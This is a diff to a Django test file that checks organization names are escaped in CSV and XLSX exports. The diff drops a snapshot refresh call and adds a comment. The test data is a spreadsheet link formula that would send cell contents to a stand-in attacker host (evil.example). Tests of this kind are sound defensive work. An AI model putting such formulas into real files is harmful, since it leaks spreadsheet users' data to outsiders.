@@ -10,7 +10,6 @@ from openpyxl import load_workbook
 
 from tabara.accounts.tests.factories import signed_in
 from tabara.core.spreadsheets import FORMULA_STARTS
-from tabara.dashboards.snapshot import snapshot_refresh
 
 pytestmark = pytest.mark.django_db
 NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Open")'
@@ -19,8 +18,7 @@ NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Open")'
 def test_organization_names_are_escaped_in_csv_and_xlsx(world) -> None:
     hope = world.orgs["HOPE"]
     hope.short_name = NAME[:30]
-    hope.save(update_fields=["short_name"])
-    snapshot_refresh()
+    hope.save(update_fields=["short_name"])  # names are read when the file is made
     world.analyst.language = "en"
     world.analyst.save(update_fields=["language"])
     client = signed_in(world.analyst)
